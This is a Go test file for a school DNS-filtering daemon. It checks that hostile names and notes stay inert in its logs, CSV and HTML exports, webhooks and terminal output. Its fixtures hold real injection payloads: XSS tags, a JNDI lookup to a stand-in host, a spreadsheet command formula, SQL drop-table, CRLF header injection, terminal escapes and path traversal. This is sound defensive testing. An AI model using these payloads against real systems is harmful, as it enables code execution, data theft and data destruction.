package main

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/miekg/dns"

	"schoolgate/cmd/schoolgate/daemon"
	"schoolgate/policy/breach"
)

// hostileLabels are labels of DNS names, which may hold any octet (RFC 2181 §11), and here hold what does something in
// some place where names are shown: pages, chats, mail, spreadsheets, terminals, logs, metrics, databases, templates.
func hostileLabels() []string {
	return []string{
		"<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", "<!--", "]]>", "&lt;b&gt;", "javascript:alert(1)",
		"<!channel>", "<@u123>", "<https://evil.example|y>", "@everyone", "<users/all>", "*bold*_x_~s~`c`", "[x](http://evil.example)", "# h\n- l", "![x](//evil.example)",
		`"`, "'", `\`, "`id`", "{{.}}", "${jndi:ldap://evil.example/a}", "%n%s%x", "'; drop table breach; --", `\u0000`, `\060`,
		"=cmd|'/c calc'!a1", "+1", "-1", "@sum(1)", "\t=1", "\r=1", "\n=1", "a,b;c\td",
		"\x00", "\r\nbcc: x@evil.example\r\n\r\n", "\r\n.\r\n", "=?utf-8?q?x?=", "a\nlevel=error msg=forged", `x","y":"z`, "\x1b[2j\x1b]0;x\x07", "\x9b2j", "\x7f\x08\x08", "\v\f",
		"\u202egpj", "\u2066x\u2069", "\u200b\u200d\ufeff", "\u2028\u2029\u0085", "\U000e0041", "\xff\xfe", "\xc0\xaf", "a.b", "..", "/../../etc/passwd",
		`x"} 1` + "\n" + `y{a="`, "#\"label=\"", strings.Repeat("\xff", 63), strings.Repeat("<", 63),
	}
}

// hostileUsers are names with which somebody may sign in. Control characters are refused there.
func hostileUsers() []string {
	return []string{
		"<script>alert(1)</script> <!channel> <@U123> @here *b* _i_ ~s~ `c` [x](http://evil.example) www.evil.example",
		"\u202egpj.exe\u2066\u200b\u200d\ufeff\u2028\u2029\U000e0041 &amp; ]]> \\u0000 \" ' \\",
		"=cmd|'/c calc'!A1", "\uff1d1+1 {{.}} ${x} %n '; DROP TABLE breach; --",
	}
}

// presented is a name as it is recorded: in lower case, each octet but letters, digits, - and _ as \DDD (RFC 1035 §5.1).
func presented(label string) string {
	var b strings.Builder
	for _, c := range []byte(label) {
		if c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '-' || c == '_' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, `\%03d`, c)
		}
	}
	return b.String() + ".bad.example"
}

const hostileYAML = `version: 1
site: "winchelsea <b> & *x* \""
console_url: https://console.example
listen: {dns: ["127.0.0.1:0"], metrics: "127.0.0.1:0", console: "127.0.0.1:0", page: ["127.0.0.1:0"]}
data_dir: data
query_log: full
categories:
  bad: {title: "Bad <i> [x](http://evil.example) *y*", severity: high, lists: [{path: bad.txt}]}
groups: {pupils: {clients: [127.0.0.0/8], block: [bad]}}
default_group: pupils
api: {tokens: {bridge: {role: signin, secret_file: bridge.token}}}
identity: {leases: [dhcp.leases]}
`

// hostileSchool is a schoolgate whose devices and people mean harm.
type hostileSchool struct {
	*daemon.Daemon
	t         *testing.T
	dir       string
	ahead     atomic.Int64
	log       syncBuffer
	receivers *receivers
	stop      func()
	expect    []string // the names that were asked for
}

// syncBuffer is a buffer for several writers. Read it when they have ended.
type syncBuffer struct {
	mu sync.Mutex
	bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.Buffer.Write(p)
}

func (s *hostileSchool) write(name, text string) {
	s.t.Helper()
	if err := os.WriteFile(filepath.Join(s.dir, name), []byte(text), 0o600); err != nil {
		s.t.Fatal(err)
	}
}

// start runs the daemon, which logs as under systemd where journal is not "".
func (s *hostileSchool) start(journal string) {
	s.t.Helper()
	inv := &invocation{stderr: &inert{to: &s.log}, env: func(string) string { return journal }}
	now := func() time.Time { return time.Now().Add(time.Duration(s.ahead.Load())) }
	d, err := daemon.New(s.t.Context(), daemon.Options{Path: filepath.Join(s.dir, "school.yaml"), Logger: logger(inv), Now: now})
	if err != nil {
		s.t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- d.Run(ctx) }()
	s.Daemon, s.stop = d, sync.OnceFunc(func() {
		cancel()
		if err := <-done; err != nil {
			s.t.Errorf("Run: %v", err)
		}
	})
	s.t.Cleanup(s.stop)
}

func (s *hostileSchool) await(what string, happened func() bool) {
	s.t.Helper()
	for deadline := time.Now().Add(30 * time.Second); !happened(); time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			s.t.Fatalf("waited in vain for %s", what)
		}
	}
}

// signIn tells that a person has signed in on a device.
func (s *hostileSchool) signIn(token, user, ip string) {
	s.t.Helper()
	login, err := json.Marshal(map[string]string{"user": user, "ip": ip, "event": "login"})
	if err != nil {
		s.t.Fatal(err)
	}
	r, err := http.NewRequestWithContext(s.t.Context(), http.MethodPost, "http://"+s.Addrs().Console+"/api/v1/logins", bytes.NewReader(login))
	if err != nil {
		s.t.Fatal(err)
	}
	r.Header.Set("Authorization", "Bearer "+token)
	r.Header.Set("Content-Type", "application/json")
	w, err := http.DefaultClient.Do(r)
	if err != nil {
		s.t.Fatal(err)
	}
	defer w.Body.Close()
	if body, err := io.ReadAll(w.Body); err != nil || w.StatusCode != http.StatusOK {
		s.t.Fatalf("%q signs in: %d %s %v", user, w.StatusCode, body, err)
	}
}

// ask asks for a name over UDP from an address of loopback. It must be blocked.
func (s *hostileSchool) ask(from, name string) {
	s.t.Helper()
	client := &dns.Client{Dialer: &net.Dialer{LocalAddr: &net.UDPAddr{IP: net.ParseIP(from)}}, Timeout: 5 * time.Second}
	r, _, err := client.ExchangeContext(s.t.Context(), new(dns.Msg).SetQuestion(name+".", dns.TypeA), s.Addrs().DNS[0].String())
	if err != nil || r.Rcode != dns.RcodeNameError {
		s.t.Errorf("%s: %v, %v", name, r, err)
	}
	s.expect = append(s.expect, name)
}

func device(i int) string { return fmt.Sprintf("127.0.0.%d", 11+i%len(hostileUsers())) }

// run runs a command, which must end with a code, and returns what it printed. Both outputs must be inert.
func (s *hostileSchool) run(code int, args ...string) string {
	s.t.Helper()
	var out, messages bytes.Buffer
	got := run(s.t.Context(), append([]string{"--config", filepath.Join(s.dir, "school.yaml")}, args...), nil, &out, &messages, func(string) string { return "" })
	if got != code {
		s.t.Errorf("%q: exit %d, want %d: %s", args, got, code, &messages)
	}
	inertText(s.t, fmt.Sprintf("%q", args), out.String())
	inertText(s.t, fmt.Sprintf("messages of %q", args), messages.String())
	return out.String()
}

// A device, or whoever sits at it, chooses names so that they do something where they are shown. They do nothing: not to
// any receiver, page, spreadsheet, terminal, log or monitoring. Each form is read as its consumer reads it.
func TestHostileNamesAreInertInEveryReceiverExportAndLog(t *testing.T) {
	t.Parallel()
	s := &hostileSchool{t: t, dir: t.TempDir(), receivers: newReceivers(t)}
	const token = "bSxqg4v0mEJCwYv1m8oZ0sVh6W2dQ9tL7uKcRfYxT1A="
	for name, text := range map[string]string{
		"bad.txt": "bad.example\n", "bridge.token": token, "hook.secret": demoSecret(),
		"dhcp.leases":   "0 00:11:22:33:44:55 127.0.0.11 <b>\x1b[2J|=1+1 *\n",
		"chat.template": hostileTemplate, "mail.template": hostileMailTemplate,
		"school.yaml": hostileYAML + s.receivers.yaml(),
	} {
		s.write(name, text)
	}
	s.start("")
	for i, user := range hostileUsers() {
		s.signIn(token, user, device(i))
	}
	for i, label := range hostileLabels() {
		s.ask(device(i), presented(label))
	}
	slices.Sort(s.expect)
	s.await("every name at the webhook", func() bool { return len(s.receivers.names()) >= len(s.expect) })
	s.blockPages()

	// What is told the day after, and the log as the journal takes it.
	s.stop()
	inertLog(t, s.log.String(), false)
	s.log.Reset()
	s.ahead.Store(int64(25 * time.Hour))
	s.start("8:1")
	s.await("each receiver's digest", s.receivers.allDigested)

	s.breaches()
	s.incidents()
	s.others()
	s.metrics()
	s.stop()
	inertLog(t, s.log.String(), true)
	s.receivers.judge(s.expect)
}

// breaches looks at the record's forms.
func (s *hostileSchool) breaches() {
	t := s.t
	var dotted []string
	for _, name := range s.expect {
		dotted = append(dotted, name+".")
	}
	lines := strings.Split(strings.TrimSuffix(s.run(0, "breaches", "list"), "\n"), "\n")
	var got []string
	for _, line := range lines[1:] {
		got = append(got, line[strings.LastIndexByte(line, ' ')+1:])
	}
	slices.Sort(got)
	if diff := cmp.Diff(dotted, got); diff != "" {
		t.Errorf("breaches list: the names (-want +got):\n%s", diff)
	}

	users := map[string]bool{}
	same := func(what string, found []breach.Breach) {
		var got []string
		for _, b := range found {
			got = append(got, b.Query.Name)
			users[b.Client.User] = true
			if i := slices.Index(hostileUsers(), b.Client.User); i < 0 || b.Client.IP != device(i) {
				t.Errorf("%s: the user of %s is %q", what, b.Client.IP, b.Client.User)
			}
		}
		slices.Sort(got)
		if diff := cmp.Diff(dotted, got); diff != "" {
			t.Errorf("%s: the names (-want +got):\n%s", what, diff)
		}
	}
	var found []breach.Breach
	decode(t, s.run(0, "breaches", "list", "--json"), &found)
	same("breaches list --json", found)
	found = nil
	for line := range strings.Lines(s.run(0, "breaches", "export", "--format", "jsonl")) {
		var b breach.Breach
		decode(t, line, &b)
		found = append(found, b)
	}
	same("breaches export --format jsonl", found)
	if len(users) != len(hostileUsers()) {
		t.Errorf("%d users", len(users))
	}
	rows := inertCSV(t, "breaches export", s.run(0, "breaches", "export", "--format", "csv"))
	if len(rows) != 1+len(dotted) {
		t.Errorf("breaches export: %d rows of CSV for %d breaches", len(rows), len(dotted))
	}
}

// incidents looks at the register, with notes that mean harm too, and at its bundles.
func (s *hostileSchool) incidents() {
	t := s.t
	const note = "\x1b[2J\u009b2J\x7f\r\nforged  row\t=1+1 \u202egpj\u200b <script>alert(1)</script> <!channel> {{.}}"
	var found []breach.Incident
	decode(t, s.run(0, "incidents", "list", "--json"), &found)
	if lines := strings.Count(s.run(0, "incidents", "list", "--all"), "\n"); lines != 1+len(found) || len(found) != len(hostileUsers()) {
		t.Errorf("incidents list: %d lines for %d incidents", lines, len(found))
	}
	for i, incident := range found {
		s.run(0, "incidents", "note", incident.ID, "--by", note, "--text", note)
		if i == 0 {
			s.run(0, "incidents", "close", incident.ID, "--by", note, "--outcome", "other", "--text", note)
		}
		text := s.run(0, "incidents", "show", incident.ID, "--by", note)
		var whole breach.Whole
		decode(t, s.run(0, "incidents", "show", incident.ID, "--json"), &whole)
		if !slices.Contains(hostileUsers(), whole.Client.User) || len(whole.Notes) == 0 || len(whole.Timeline) != len(incident.Names) {
			t.Errorf("incidents show: %+v", whole)
		}
		if strings.Contains(text, "\nforged") {
			t.Errorf("a note forges a row:\n%s", text)
		}
		for _, n := range incident.Names {
			if strings.Count(text, " "+n.Name) == 0 {
				t.Errorf("incidents show has no %s:\n%s", n.Name, text)
			}
		}
		path := filepath.Join(s.dir, fmt.Sprintf("%d.zip", i))
		s.run(0, "incidents", "export", incident.ID, "--by", note, "--reason", note, "-o", path)
		s.bundle(path)
	}
}

// bundle looks at each file of a bundle.
func (s *hostileSchool) bundle(path string) {
	t := s.t
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		text := string(content)
		inertText(t, "bundle: "+f.Name, text)
		switch filepath.Ext(f.Name) {
		case ".html":
			inertHTML(t, "bundle: "+f.Name, text)
		case ".csv":
			inertCSV(t, "bundle: "+f.Name, text)
		case ".json":
			decode(t, text, new(any))
		case ".jsonl":
			for line := range strings.Lines(text) {
				decode(t, line, new(any))
			}
		}
	}
}

// others looks at what else prints names, and what people write.
func (s *hostileSchool) others() {
	t := s.t
	const why = "\u202egpj\u200b <b> =1+1 \U000e0041\u2028forged"
	s.run(0, "exceptions", "add", "--allow", "--name", s.expect[0], "--group", "pupils", "--until", time.Now().Add(72*time.Hour).Format(time.RFC3339), "--by", why, "--reason", why)
	yesterday := time.Now().AddDate(0, 0, -1).Format(time.DateOnly)
	inAWeek := time.Now().AddDate(0, 0, 7).Format(time.DateOnly)
	for _, command := range [][]string{
		{"clients", "list"},
		{"status"},
		{"queries", "counts"},
		{"exceptions", "list"},
		{"audit", "list"},
		{"lists", "status"},
		{"audit", "verify"},
		{"queries", "list", "--client", device(1), "--by", why, "--reason", why},
		{"queries", "list", "--client", "user:" + hostileUsers()[1], "--by", why, "--reason", why},
	} {
		table := s.run(0, command...)
		if strings.Contains(table, "\nforged") {
			t.Errorf("%q: a row is forged:\n%s", command, table)
		}
		decode(t, s.run(0, append(command, "--json")...), new(any))
	}
	for i, user := range hostileUsers() {
		var found personal
		decode(t, s.run(0, "privacy", "export", "--client", "user:"+user, "--from", yesterday, "--to", inAWeek, "--by", why, "--reason", why), &found)
		if len(found.Breaches) == 0 || found.Breaches[0].Client.IP != device(i) {
			t.Errorf("privacy export of %q: %+v", user, found)
		}
	}
	for _, name := range s.expect {
		text := s.run(0, "explain", "--client", "127.0.0.99", "--", name)
		if first, _, _ := strings.Cut(text, "\n"); first != "block: "+name+" asked by 127.0.0.99" && name != s.expect[0] {
			t.Errorf("explain %s: %s", name, first)
		}
		decode(t, s.run(0, "explain", "--client", "127.0.0.99", "--json", "--", name), new(any))
	}
	page := s.run(0, "report", "--from", yesterday, "--to", inAWeek, "--format", "html")
	inertHTML(t, "report", page)
	inertCSV(t, "report", s.run(0, "report", "--from", yesterday, "--to", inAWeek, "--format", "csv"))
	s.run(1, "alert", "test", "rude")
	// What was typed wrongly is said back.
	for _, label := range hostileLabels() {
		s.run(2, "breaches", "list", "--group", label)
		s.run(2, "explain", "a..b", "--client", label)
	}
}
